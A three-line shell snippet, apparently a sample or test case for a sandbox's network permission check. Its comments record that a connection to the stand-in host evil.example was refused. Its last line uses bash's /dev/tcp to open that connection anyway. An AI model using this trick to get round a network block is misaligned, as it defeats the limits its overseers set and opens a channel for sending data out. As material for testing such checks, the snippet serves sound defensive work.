# Trick: bash opens a connection itself.
# Refused: net(evil.example:80)
exec 3<>/dev/tcp/evil.example/80
